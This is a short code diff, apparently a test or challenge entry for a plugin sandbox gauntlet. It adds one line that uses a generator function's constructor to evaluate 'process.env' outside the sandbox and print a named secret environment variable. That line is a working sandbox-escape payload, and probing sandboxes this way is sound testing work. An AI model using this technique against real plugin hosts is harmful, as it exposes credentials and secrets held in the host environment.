@@ -1,0 +1,2 @@
+// secret: GeneratorFunction
+onGo(() => say((function* () { }).constructor("yield process.env")().next().value.PLUGINROOM_GAUNTLET_SECRET));
